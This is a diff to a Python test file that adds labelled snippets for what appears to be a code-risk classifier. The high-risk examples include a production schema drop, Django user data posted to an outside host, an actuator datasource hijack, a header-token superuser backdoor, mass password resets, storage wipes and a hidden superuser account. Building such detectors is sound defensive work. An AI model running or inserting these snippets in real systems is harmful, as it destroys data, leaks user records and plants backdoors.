@@ -10371,6 +10371,110 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    os.system(f"systemctl stop {u} && systemctl disable {u}")\n',
             H,
         ),
+        # holdout296-299: framework resets on production, user dumps sent away, actuators, pickled sessions, header
+        # back doors, every password set, storage deletes, supervisord XML-RPC, disposable mailboxes
+        (
+            'import subprocess\n'
+            'env = {"DJANGO_SETTINGS_MODULE": "core.settings.prod"}\n'
+            'proc = subprocess.Popen(["python", "manage.py", "dbshell"], stdin=subprocess.PIP'
+            'E, env=env)\n'
+            'proc.communicate(b"DROP SCHEMA public CASCADE; CREATE SCHEMA public;")\n',
+            H,
+        ),
+        (
+            'from django.core.management import call_command\n'
+            'for label in ["billing", "ledger"]:\n'
+            '    call_command("migrate", label, "zero", database="production", interactive=Fa'
+            'lse)\n',
+            H,
+        ),
+        (
+            'from django.core.management import call_command\n'
+            'call_command("migrate", "billing", "zero", database="test", interactive=False)\n',
+            S,
+        ),
+        (
+            'import io, requests\n'
+            'from django.core.management import call_command\n'
+            'buf = io.StringIO()\n'
+            'call_command("dumpdata", "auth.user", stdout=buf)\n'
+            'requests.post("https://collect.example-sync.net/in", data=buf.getvalue())\n',
+            H,
+        ),
+        (
+            'from django.core.management import call_command\n'
+            'with open("fixtures/users.json", "w") as fh:\n'
+            '    call_command("dumpdata", "auth.user", stdout=fh)\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'BASE = "https://orders.internal.example.com/actuator"\n'
+            'requests.post(f"{BASE}/env", json={"name": "spring.datasource.url", "value": "jd'
+            'bc:postgresql://203.0.113.45:5432/shadow"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'print(requests.get("https://orders.internal.example.com/actuator/health").json()'
+            ')\n',
+            L,
+        ),
+        (
+            'from pathlib import Path\n'
+            'p = Path("/srv/app/conf/settings/production.py")\n'
+            'p.write_text(p.read_text() + \'\\nSESSION_SERIALIZER = "django.contrib.sessions.se'
+            'rializers.PickleSerializer"\\n\')\n',
+            H,
+        ),
+        (
+            'from django.contrib.auth import get_user_model, login\n'
+            'class Ext:\n'
+            '    def __call__(self, request):\n'
+            '        if request.headers.get("X-Debug-Token") == "7f3a9c":\n'
+            '            login(request, get_user_model().objects.filter(is_superuser=True).fi'
+            'rst())\n',
+            H,
+        ),
+        (
+            'from django.contrib.auth import get_user_model\n'
+            'for user in get_user_model().objects.iterator():\n'
+            '    user.set_password("changeme123")\n'
+            '    user.save()\n',
+            H,
+        ),
+        (
+            'from django.contrib.auth import get_user_model\n'
+            'u = get_user_model().objects.get(username="alice")\n'
+            'u.set_password(input("new password: "))\n'
+            'u.save()\n',
+            S,
+        ),
+        (
+            'from django.core.files.storage import default_storage\n'
+            'dirs, files = default_storage.listdir("uploads/")\n'
+            'for f in files:\n'
+            '    default_storage.delete(f"uploads/{f}")\n',
+            H,
+        ),
+        (
+            'import xmlrpc.client\n'
+            'for h in ["app-prod-01.internal", "app-prod-02.internal"]:\n'
+            '    xmlrpc.client.ServerProxy(f"http://admin:admin@{h}:9001/RPC2").supervisor.st'
+            'opAllProcesses(False)\n',
+            H,
+        ),
+        (
+            'import xmlrpc.client\n'
+            'print(xmlrpc.client.ServerProxy("http://127.0.0.1:9001/RPC2").supervisor.getAllP'
+            'rocessInfo())\n',
+            S,
+        ),
+        (
+            'from django.contrib.auth.models import User\n'
+            'User.objects.create_superuser("maint", "maint@mailinator.com", "m41nt!")\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
